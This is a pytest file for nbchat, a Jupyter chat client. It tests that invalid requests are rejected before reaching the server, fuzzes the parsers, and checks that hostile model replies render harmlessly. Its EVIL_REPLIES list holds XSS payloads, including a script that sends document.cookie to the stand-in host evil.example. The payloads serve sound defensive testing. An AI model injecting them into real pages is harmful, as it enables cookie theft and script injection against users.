"""Bad input through every door: nothing is sent upstream and the conversation is unchanged.

One table of invalid requests (`CASES`, v2 rules: ranges, enums, types, 6 stop sequences,
response_format with documents/tools, tool_choice REQUIRED without tools, unknown tool_call_id,
unknown role, empty messages, bad JSON schema, bad tool names, unknown fields) goes through:

* the Python API: ``Conversation.send``, ``runner.start_turn``, ``Client.chat`` and
  ``Client.chat_stream``;
* ``%%chat`` in a real IPython InteractiveShell (``NbChat.defaults`` for fields without a flag,
  plus a table of bad flags);
* ``nbchat serve`` over HTTP, proxying to the recording server: 400 (422 for an unknown field,
  as Cohere answers) with ``{id, message}`` naming the field.

Every door is checked against a recording v2 server (tests/v2server.py): it must see zero
requests. Then hypothesis fuzzes the SSE decoder, the accumulator and the request validator:
only the documented error types may come out.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from v2server import V2Server, events_body, sse, text_events  # noqa: E402

from nbchat import runner  # noqa: E402
from nbchat.backends.cohere import Client  # noqa: E402
from nbchat.conversation import Conversation  # noqa: E402
from nbchat.errors import StreamError, ValidationError  # noqa: E402
from nbchat.protocol.accumulator import Accumulator  # noqa: E402
from nbchat.protocol.request import validate_request  # noqa: E402
from nbchat.protocol.sse import SSEDecoder  # noqa: E402

MODEL = "command-a-03-2025"
TOOL = {
    "type": "function",
    "function": {"name": "lookup", "description": "d", "parameters": {"type": "object"}},
}
CALL = {"id": "call_1", "type": "function", "function": {"name": "lookup", "arguments": "{}"}}
TOOL_TURN = [
    {"role": "user", "content": "look it up"},
    {"role": "assistant", "tool_plan": "I will look.", "tool_calls": [CALL]},
    {"role": "tool", "tool_call_id": "call_1", "content": [{"type": "document", "document": {"data": {"r": 1}}}]},
    {"role": "assistant", "content": [{"type": "text", "text": "found it"}]},
]  # fmt: skip


def case(
    id: str,
    field: str,
    params: dict[str, Any] | None = None,
    history: list[dict[str, Any]] | None = None,
    prompt: Any = "hi",
    messages: list[dict[str, Any]] | None = None,
) -> Any:
    """One invalid request. `history` is a conversation before the prompt (seeded into a
    Conversation for the API doors); `messages` replaces the whole message list (only doors
    that take raw messages can express it); `field` is where the ValidationError must point."""
    return pytest.param(
        {
            "field": field,
            "params": params or {},
            "history": history or [],
            "prompt": prompt,
            "messages": messages,
        },
        id=id,
    )


CASES = [
    # ranges
    case("temperature_negative", "temperature", {"temperature": -0.1}),
    case("temperature_above_1", "temperature", {"temperature": 1.5}),
    case("p_zero", "p", {"p": 0}),
    case("p_one", "p", {"p": 1.0}),
    case("k_negative", "k", {"k": -1}),
    case("k_above_500", "k", {"k": 501}),
    case("frequency_penalty_above_1", "frequency_penalty", {"frequency_penalty": 1.5}),
    case("presence_penalty_negative", "presence_penalty", {"presence_penalty": -0.5}),
    case("seed_negative", "seed", {"seed": -1}),
    case("seed_2_pow_64", "seed", {"seed": 2**64}),
    case("max_tokens_zero", "max_tokens", {"max_tokens": 0}),
    case("priority_1000", "priority", {"priority": 1000}),
    case("priority_negative", "priority", {"priority": -1}),
    case("thinking_budget_zero", "thinking.token_budget", {"thinking": {"type": "enabled", "token_budget": 0}}),
    # wrong types
    case("temperature_string", "temperature", {"temperature": "hot"}),
    case("temperature_bool", "temperature", {"temperature": True}),
    case("k_float", "k", {"k": 2.5}),
    case("max_tokens_string", "max_tokens", {"max_tokens": "10"}),
    case("logprobs_string", "logprobs", {"logprobs": "yes"}),
    case("strict_tools_int", "strict_tools", {"strict_tools": 1}),
    case("model_empty", "model", {"model": ""}),
    case("model_int", "model", {"model": 42}),
    case("citation_options_string", "citation_options", {"citation_options": "FAST"}),
    case("documents_string", "documents", {"documents": "just a string"}),
    case("tools_not_list", "tools", {"tools": TOOL}),
    # enums
    case("safety_mode_unknown", "safety_mode", {"safety_mode": "LAX"}),
    case("safety_mode_lowercase", "safety_mode", {"safety_mode": "contextual"}),
    case("citation_mode_unknown", "citation_options.mode", {"citation_options": {"mode": "SOMETIMES"}}),
    case("citation_options_extra_key", "citation_options.x", {"citation_options": {"mode": "FAST", "x": 1}}),
    case("tool_choice_unknown", "tool_choice", {"tool_choice": "SOMETIMES", "tools": [TOOL]}),
    case("response_format_type_unknown", "response_format.type", {"response_format": {"type": "xml"}}),
    case("thinking_type_unknown", "thinking.type", {"thinking": {"type": "maybe"}}),
    # stop sequences
    case("six_stop_sequences", "stop_sequences", {"stop_sequences": list("abcdef")}),
    case("stop_sequences_string", "stop_sequences", {"stop_sequences": "STOP"}),
    case("stop_sequence_empty", "stop_sequences[0]", {"stop_sequences": [""]}),
    # combinations
    case("json_with_documents", "response_format", {"response_format": {"type": "json_object"}, "documents": ["d"]}),
    case("json_with_tools", "response_format", {"response_format": {"type": "json_object"}, "tools": [TOOL]}),
    case("text_with_json_schema", "response_format.json_schema", {"response_format": {"type": "text", "json_schema": {"type": "object"}}}),
    case("tool_choice_required_without_tools", "tool_choice", {"tool_choice": "REQUIRED"}),
    # JSON schemas
    case("json_schema_not_a_schema", "response_format.json_schema", {"response_format": {"type": "json_object", "json_schema": {"type": "nonsense"}}}),
    case("json_schema_a_string", "response_format.json_schema", {"response_format": {"type": "json_object", "json_schema": "{}"}}),
    case("json_schema_bad_required", "response_format.json_schema", {"response_format": {"type": "json_object", "json_schema": {"type": "object", "required": "name"}}}),
    # tools
    case("tool_name_with_space", "tools[0].function.name", {"tools": [{"type": "function", "function": {"name": "bad name", "parameters": {}}}]}),
    case("tool_name_leading_digit", "tools[0].function.name", {"tools": [{"type": "function", "function": {"name": "1tool", "parameters": {}}}]}),
    case("tool_name_dash", "tools[0].function.name", {"tools": [{"type": "function", "function": {"name": "get-weather", "parameters": {}}}]}),
    case("tool_names_duplicate", "tools[1].function.name", {"tools": [TOOL, TOOL]}),
    case("tool_type_retrieval", "tools[0].type", {"tools": [{"type": "retrieval", "function": TOOL["function"]}]}),
    case("tool_without_parameters", "tools[0].function.parameters", {"tools": [{"type": "function", "function": {"name": "f"}}]}),
    # documents
    case("document_empty_string", "documents[0]", {"documents": [""]}),
    case("document_without_data", "documents[0].data", {"documents": [{"id": "x"}]}),
    case("document_number", "documents[0]", {"documents": [42]}),
    # unknown fields
    case("unknown_field_typo", "temprature", {"temprature": 0.5}),
    case("unknown_field_v1_name", "preamble", {"preamble": "be nice"}),
    # messages
    case("unknown_role", "messages[0].role", history=[{"role": "robot", "content": "beep"}]),
    case("tool_message_unknown_call_id", "messages[2].tool_call_id", history=[
        {"role": "user", "content": "q"}, {"role": "assistant", "tool_calls": [CALL]},
        {"role": "tool", "tool_call_id": "call_404", "content": "r"}]),
    case("tool_message_without_any_call", "messages[1].tool_call_id", history=[
        {"role": "user", "content": "q"}, {"role": "tool", "tool_call_id": "x", "content": "r"}]),
    case("tool_call_arguments_dict", "messages[1].tool_calls[0].function.arguments", history=[
        {"role": "user", "content": "q"},
        {"role": "assistant", "tool_calls": [{**CALL, "function": {"name": "lookup", "arguments": {}}}]}]),
    case("duplicate_tool_call_ids", "messages[3].tool_calls[0].id", history=[*TOOL_TURN[:3],
        {"role": "assistant", "tool_calls": [CALL]}]),
    case("message_unknown_key", "messages[0].name", history=[{"role": "user", "content": "x", "name": "bob"}]),
    case("content_block_unknown_type", "messages[0].content[0].type", prompt=[{"type": "video", "url": "x"}]),
    case("image_detail_unknown", "messages[0].content[0].image_url.detail", prompt=[
        {"type": "image_url", "image_url": {"url": "https://x/y.png", "detail": "ultra"}}]),
    case("content_number", "messages[0].content", history=[{"role": "user", "content": 42}]),
    case("lone_surrogate_not_utf8", "messages[0].content", prompt="caf\udcff"),
    case("empty_messages", "messages", messages=[]),
    case("messages_not_list", "messages", messages={"role": "user", "content": "x"}),  # type: ignore[arg-type]
]  # fmt: skip


def full_messages(c: dict[str, Any]) -> Any:
    if c["messages"] is not None:
        return c["messages"]
    return c["history"] + [{"role": "user", "content": c["prompt"]}]


def seeded(c: dict[str, Any]) -> Conversation:
    conv = Conversation()
    conv.extend_messages(c["history"])  # Conversation accepts any history; requests check it
    return conv


@pytest.fixture(scope="module")
def upstream() -> Iterator[V2Server]:
    """The recording server every door talks to; it must never see a request."""
    with V2Server(default=sse(events_body(text_events(["upstream answered"])))) as srv:
        yield srv


@pytest.fixture(autouse=True)
def _nothing_sent(upstream: V2Server) -> Iterator[None]:
    n = len(upstream.requests)
    yield
    assert upstream.requests[n:] == [], "a bad request reached the upstream server"


def test_table_is_big_enough() -> None:
    assert len(CASES) >= 40


def test_every_case_is_invalid_per_the_validator() -> None:
    """The table itself is right: each body fails validation at the documented field."""
    for p in CASES:
        c = p.values[0]
        body = {"model": MODEL, "messages": full_messages(c), **c["params"]}
        with pytest.raises(ValidationError) as info:
            validate_request(body)
        assert info.value.field == c["field"], (p.id, info.value.field)


# -- door 1: the Python API ------------------------------------------------------------------------
@pytest.fixture(scope="module")
def client(upstream: V2Server) -> Client:
    return Client(base_url=upstream.url, api_key="bad-input-key-1234", max_retries=0)


# The runner treats an empty model as "the backend's default" (like NbChat.model = ''), and
# merges tools by name (a Python function overrides a dict of the same name): by design.
_RUNNER_FILLS = {"model_empty", "tool_names_duplicate"}


def _api_cases() -> list[Any]:
    return [p for p in CASES if p.values[0]["messages"] is None and p.id not in _RUNNER_FILLS]


@pytest.mark.parametrize("c", _api_cases())
def test_conversation_send(c: dict[str, Any], client: Client) -> None:
    conv = seeded(c)
    before = conv.to_json()
    params = {"model": MODEL, **c["params"]}
    for wait in (True, False):
        with pytest.raises(ValidationError) as info:
            conv.send(c["prompt"], backend=client, wait=wait, **params)
        assert info.value.field == c["field"]
        assert c["field"] in str(info.value)
        assert conv.to_json() == before and not conv.running


@pytest.mark.parametrize("c", _api_cases())
def test_runner_start_turn(c: dict[str, Any], client: Client) -> None:
    conv = seeded(c)
    before = conv.to_json()
    threads = threading.active_count()
    with pytest.raises(ValidationError) as info:
        runner.start_turn(conv, client, c["prompt"], {"model": MODEL, **c["params"]})
    assert info.value.field == c["field"]
    assert conv.to_json() == before and len(conv.turns) == len(seeded(c).turns)
    assert threading.active_count() == threads  # no worker thread was started


@pytest.mark.parametrize("c", CASES)
def test_client_chat_and_chat_stream(c: dict[str, Any], client: Client) -> None:
    params = {"model": MODEL, **c["params"]}
    messages = full_messages(c)
    with pytest.raises(ValidationError) as info:
        client.chat(messages=messages, **params)
    assert info.value.field == c["field"]
    with pytest.raises(ValidationError):
        client.chat_stream(messages=messages, **params)  # refused before any iteration


def test_bad_prompt_types_through_send(client: Client) -> None:
    conv = Conversation()
    for prompt in (42, None, 3.5, object()):
        with pytest.raises(ValidationError):
            conv.send(prompt, backend=client, model=MODEL)
    assert conv.turns == []


# -- door 2: %%chat in a real InteractiveShell -------------------------------------------------------
@pytest.fixture
def ip(upstream: V2Server, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    from IPython.core.interactiveshell import InteractiveShell

    monkeypatch.setenv("CO_API_KEY", "bad-input-key-1234")
    shell = InteractiveShell.instance()
    shell.run_line_magic("load_ext", "nbchat")
    shell.run_line_magic("config", "NbChat.backend = 'v2'")
    shell.run_line_magic("config", f"NbChat.base_url = '{upstream.url}'")
    shell.run_line_magic("config", f"NbChat.model = '{MODEL}'")
    yield shell
    shell.run_line_magic("config", "NbChat.defaults = {}")
    shell.run_line_magic("unload_ext", "nbchat")
    InteractiveShell.clear_instance()


def run_cell(ip: Any, source: str) -> tuple[Any, Any]:
    from IPython.utils.capture import capture_output

    with capture_output() as cap:
        res = ip.run_cell(source)
    return res, cap


def _magic_cases() -> list[Any]:
    # the magic's prompt is the cell text: content-block prompts and raw message lists
    # cannot be written there; model has its own setting
    return [
        p
        for p in CASES
        if p.values[0]["messages"] is None
        and isinstance(p.values[0]["prompt"], str)
        and "model" not in p.values[0]["params"]
        and p.id not in _RUNNER_FILLS
    ]


@pytest.mark.parametrize("c", _magic_cases())
def test_magic_with_defaults_and_history(c: dict[str, Any], ip: Any) -> None:
    from IPython.core.error import UsageError

    conv = seeded(c)
    ip.user_ns["chat"] = conv
    ip.user_ns["_bad_defaults"] = c["params"]
    ip.run_line_magic("config", "NbChat.defaults = _bad_defaults")
    before = conv.to_json()
    for flags in ("", "--dry-run", "--wait"):
        res, cap = run_cell(ip, f"%%chat {flags}\n{c['prompt']}")
        err = res.error_in_exec
        assert isinstance(err, UsageError), (flags, err)
        top = c["field"].split(".")[0].split("[")[0]
        assert c["field"] in str(err) or top in str(err), str(err)
        assert cap.outputs == []  # no dry-run view, no static output
        assert ip.user_ns["chat"] is conv and conv.to_json() == before


BAD_FLAGS = [
    ("-t 1.01", "temperature"),
    ("-t -0.5", "temperature"),
    ("-t hot", "--temperature"),
    ("-p 0", "p"),
    ("-p 2", "p"),
    ("-k 501", "k"),
    ("-k -3", "k"),
    ("-k 1.5", "-k"),
    ("--frequency-penalty 2", "frequency_penalty"),
    ("--presence-penalty -1", "presence_penalty"),
    ("--max-tokens 0", "max_tokens"),
    ("--max-tokens many", "--max-tokens"),
    ("--seed -1", "seed"),
    ("--seed 18446744073709551616", "seed"),
    ("--priority 1000", "priority"),
    ("--stop a --stop b --stop c --stop d --stop e --stop f", "stop_sequences"),
    ("--stop ''", "stop_sequences"),
    ("--safety-mode LAX", "--safety-mode"),
    ("--citations MAYBE", "--citations"),
    ("--tool-choice REQUIRED", "tool_choice"),
    ("--tool-choice ALWAYS", "--tool-choice"),
    ("--json --documents docs", "response_format"),
    ("--schema bad_schema", "json_schema"),
    ("--documents nothing_here", "--documents"),
    ("--documents empty_doc", "documents"),
    ("--tools 42", "--tools"),
    ("--backend nowhere", "--backend"),
    ("--unknown-flag 3", "--unknown-flag"),
    ("-n 1bad", "-n/--name"),
]


@pytest.mark.parametrize("line, needle", BAD_FLAGS, ids=[f for f, _ in BAD_FLAGS])
def test_magic_bad_flags(line: str, needle: str, ip: Any, upstream: V2Server) -> None:
    from IPython.core.error import UsageError

    ip.user_ns.update(docs=["a document"], bad_schema={"type": 12}, empty_doc=[""])
    conv = Conversation()
    conv.extend_messages(TOOL_TURN)
    ip.user_ns["chat"] = conv
    before = conv.to_json()
    for extra in ("", " --dry-run"):
        res, cap = run_cell(ip, f"%%chat {line}{extra}\nhello")
        err = res.error_in_exec
        assert isinstance(err, UsageError), err
        assert needle in str(err), str(err)
        assert cap.outputs == []
        assert ip.user_ns["chat"] is conv and conv.to_json() == before


# -- door 3: nbchat serve over HTTP ------------------------------------------------------------------
@contextlib.contextmanager
def run_server(app: Any) -> Iterator[str]:
    """uvicorn on 127.0.0.1, port 0, in a thread."""
    import uvicorn

    config = uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning", lifespan="off")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        assert time.monotonic() < deadline, "server did not start"
        time.sleep(0.01)
    port = server.servers[0].sockets[0].getsockname()[1]
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(10)


@pytest.fixture(scope="module")
def proxy(client: Client) -> Iterator[str]:
    """nbchat serve in front of the recording upstream (backend: the v2 Client)."""
    from nbchat.server import create_app

    with run_server(create_app(client)) as url:
        yield url


def post(url: str, body: bytes, headers: dict[str, str] | None = None) -> tuple[int, bytes]:
    host, port = url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=15)
    conn.request("POST", "/v2/chat", body, {"Content-Type": "application/json", **(headers or {})})
    resp = conn.getresponse()
    out = resp.status, resp.read()
    conn.close()
    return out


def error_body(raw: bytes) -> dict[str, Any]:
    obj = json.loads(raw)
    assert set(obj) == {"id", "message"} and obj["id"]
    assert "Traceback" not in obj["message"] and 'File "' not in obj["message"]
    return obj


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "json"])
@pytest.mark.parametrize("c", CASES)
def test_serve_answers_400_naming_the_field(c: dict[str, Any], stream: bool, proxy: str) -> None:
    body = {"model": MODEL, "messages": full_messages(c), "stream": stream, **c["params"]}
    status, raw = post(proxy, json.dumps(body).encode())
    # Cohere answers 422 for an unknown field (recorded capture); every other rule is a 400
    unknown = c["field"] in ("temprature", "preamble", "citation_options.x", "messages[0].name")
    expected = 422 if unknown else 400
    assert status == expected, (status, raw)
    assert c["field"] in error_body(raw)["message"]


@pytest.mark.parametrize(
    "raw, needle",
    [
        (b"{not json", "json"),
        (b"[1, 2]", "object"),
        (b'"a string"', "object"),
        (b"", "json"),
        (b'{"messages": [{"role": "user", "content": "x"}]}', "model"),
        (b'{"model": "m"}', "messages"),
        ('{"model": "m", "messages": [{"role": "user", "content": "\udcff"}]}'.encode("utf-8", "surrogatepass"), "messages"),
        (b'{"model": "m", "messages": [{"role": "user", "content": "\\ud800"}]}', "messages"),
        (b'{"model": "m", "messages": [{"role": "user", "content": "x"}], "stream": "yes"}', "stream"),
    ],
    ids=["broken_json", "array", "string", "empty", "no_model", "no_messages", "bad_utf8", "escaped_lone_surrogate", "stream_string"],
)  # fmt: skip
def test_serve_rejects_malformed_bodies(raw: bytes, needle: str, proxy: str) -> None:
    status, body = post(proxy, raw)
    assert status in (400, 422), (status, body)
    assert needle in error_body(body)["message"].lower()


# -- fuzz: only documented error types ---------------------------------------------------------------
_json = st.recursive(
    # text includes lone surrogates (category Cs): JSON can carry them, UTF-8 cannot
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False)
    | st.text(st.characters(blacklist_categories=()), max_size=8),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=12,
)  # fmt: skip
_KEYS = ["model", "messages", "temperature", "p", "k", "max_tokens", "seed", "stop_sequences",
         "tools", "tool_choice", "documents", "response_format", "citation_options", "safety_mode",
         "priority", "logprobs", "strict_tools", "thinking", "stream", "frequency_penalty"]  # fmt: skip
_messages = st.lists(
    st.fixed_dictionaries(
        {"role": st.sampled_from(["user", "assistant", "system", "tool", "robot"])},
        optional={"content": _json, "tool_calls": _json, "tool_call_id": _json, "tool_plan": _json},
    ),
    max_size=4,
)
_bodies = st.fixed_dictionaries(
    {"model": st.sampled_from(["m", "", 3]), "messages": _messages},
    optional={k: _json for k in _KEYS[2:]},
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=_bodies)
def test_fuzz_validator_raises_only_validation_error(body: dict[str, Any]) -> None:
    try:
        out = validate_request(body)
    except ValidationError as exc:
        assert isinstance(exc.field, str) and exc.field
        return
    assert isinstance(out, dict) and out["messages"]
    json.dumps(out, ensure_ascii=False).encode("utf-8")  # whatever passes can be sent


_frames = st.lists(
    st.one_of(
        st.binary(max_size=40),
        st.sampled_from(
            [b"event: content-delta\n", b"data: {}\n", b"data: [DONE]\n\n", b"\n", b"\r\n", b": c\n",
             b'data: {"type":"message-start","id":"x"}\n\n', b"data: {bad\n\n", b"retry: 5\n",
             b"id: 7\n", b"data:\xff\xfe\n\n", b"\xef\xbb\xbf", b"data: 1\n\n", b"data: []\n\n"]
        ),
    ),
    max_size=12,
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(frames=_frames, cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=6))
def test_fuzz_sse_decoder_raises_only_stream_error(frames: list[bytes], cuts: list[int]) -> None:
    data = b"".join(frames)
    points = sorted({min(c, len(data)) for c in cuts} | {0, len(data)})
    decoder = SSEDecoder()
    events: list[Any] = []
    try:
        for a, b in zip(points, points[1:], strict=False):
            events += decoder.feed(data[a:b])
        events += decoder.close()
    except StreamError:
        return
    assert all(isinstance(e, dict) for e in events)


_events = st.lists(
    st.fixed_dictionaries(
        {"type": st.sampled_from(
            ["message-start", "content-start", "content-delta", "content-end", "tool-plan-delta",
             "tool-call-start", "tool-call-delta", "tool-call-end", "citation-start",
             "citation-end", "message-end", "debug", None])},
        optional={"index": _json, "id": _json, "delta": _json, "logprobs": _json},
    ),
    max_size=8,
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(events=_events)
def test_fuzz_accumulator_never_raises_on_wrong_shapes(events: list[dict[str, Any]]) -> None:
    """A server sending valid JSON of the wrong shape: the accumulator's own docstring says
    unknown events and fields are ignored, never fatal. Reading must not raise either (the
    runner reads `.message` while finalising a turn)."""
    acc = Accumulator()
    for event in events:
        acc.feed(event)
    resp = acc.response
    assert isinstance(resp, dict)
    assert isinstance(acc.message, dict) and isinstance(acc.text, str)
    json.dumps(resp, default=repr)


def test_wrong_typed_text_from_server_does_not_hang_the_turn(upstream: V2Server) -> None:
    """Valid JSON, wrong type (``"text": 5``): the turn must end (error or complete), not stay
    ``running`` forever with a dead worker thread."""
    events = text_events(["fine", "also"])
    events[2]["delta"]["message"]["content"]["text"] = 5
    with V2Server() as srv:
        srv.push(sse(events_body(events)))
        client = Client(base_url=srv.url, api_key="bad-input-key-1234", max_retries=0)
        conv = Conversation()
        handle = runner.start_turn(conv, client, "hi", {"model": MODEL})
        handle.wait(5)
        assert handle.done, "the turn is stuck in 'running' (worker died while finalising)"
        assert handle.turn.status in ("error", "complete") and conv.messages == (
            conv.turns[0].messages if handle.turn.status == "complete" else []
        )


# -- untrusted model output: every rendering of a hostile reply is inert ----------------------------
EVIL_REPLIES = [
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<svg onload=alert(1)></svg>",
    "<div style='position:fixed;inset:0' onclick=alert(1)>covered</div>",
    "![t](https://evil.example/pixel.png)",
    "x" * 200_000,  # one huge unbroken line
    "bell\x07 esc\x1b[2J nul\x00 rlo\u202eevil del\x7f",
]


def _active_parts(html: str) -> list[str]:
    """Active markup in an HTML string, by parsing it (escaped text like ``&lt;img
    onerror=...&gt;`` is inert and does not count)."""
    from html.parser import HTMLParser

    found: list[str] = []

    class Scan(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in ("script", "img", "iframe", "svg", "object", "embed", "style", "link"):
                found.append(f"<{tag}>")
            for name, value in attrs:
                if name.startswith("on"):
                    found.append(f"{tag}[{name}]")
                if name in ("href", "src", "action", "formaction") and value:
                    v = "".join(value.split()).lower()
                    if not v.startswith(("http:", "https:", "mailto:", "#")):
                        found.append(f"{tag}[{name}={value[:30]}]")

    Scan().feed(html)
    return found


def _strings(obj: Any) -> Iterator[str]:
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for v in obj.values():
            yield from _strings(v)
    elif isinstance(obj, (list, tuple)):
        for v in obj:
            yield from _strings(v)


def _as_rendered_markdown(md: str) -> str:
    """What a front end's markdown renderer makes of a text/markdown output: Jupyter's
    renderers keep raw HTML (and trusted outputs are not sanitised)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(md)


@pytest.mark.parametrize("evil", EVIL_REPLIES, ids=lambda e: repr(e[:24]))
def test_hostile_reply_renders_inert_in_static_and_live_views(evil: str) -> None:
    from nbchat.notebook.render import static_bundle
    from nbchat.notebook.view import TurnView

    with V2Server() as srv:
        srv.push(sse(events_body(text_events(["Here: ", evil, " end"]))))
        client = Client(base_url=srv.url, api_key="bad-input-key-1234", max_retries=0)
        conv = Conversation()
        view = TurnView("show me", params={"model": MODEL})
        handle = runner.start_turn(
            conv, client, "show me", {"model": MODEL}, listener=view.listener()
        )
        handle.wait(20)
        turn = handle.turn
        assert turn.complete and evil[:50].replace("\x00", "") in turn.text or len(evil) < 50
        bundle = static_bundle(turn)
        assert _active_parts(bundle["text/html"]) == [], bundle["text/html"][:500]
        view._flush(final=True)
        # the live view ships HTML fragments to the browser: no active markup in any of them
        fragments = list(_strings(view.get_state())) + list(_strings(view.snapshot()))
        assert fragments
        for fragment in fragments:
            assert _active_parts(fragment) == [], fragment[:300]


@pytest.mark.parametrize("evil", EVIL_REPLIES[:9], ids=lambda e: repr(e[:24]))
def test_hostile_reply_markdown_outputs_are_inert(evil: str) -> None:
    """text/markdown outputs are rendered as HTML by Jupyter (raw HTML kept for trusted
    outputs): the model's text must be escaped there too."""
    from nbchat.notebook.render import static_bundle

    conv = Conversation(
        [
            {"role": "user", "content": "hi"},
            {"role": "assistant", "content": [{"type": "text", "text": evil}]},
        ]
    )
    surfaces = {
        "Conversation._repr_markdown_": conv._repr_markdown_(),
        "Conversation mimebundle": conv._repr_mimebundle_()["text/markdown"],
        "static_bundle text/markdown": static_bundle(conv.turns[0])["text/markdown"],
    }
    for name, md in surfaces.items():
        assert _active_parts(_as_rendered_markdown(md)) == [], (name, md[:300])
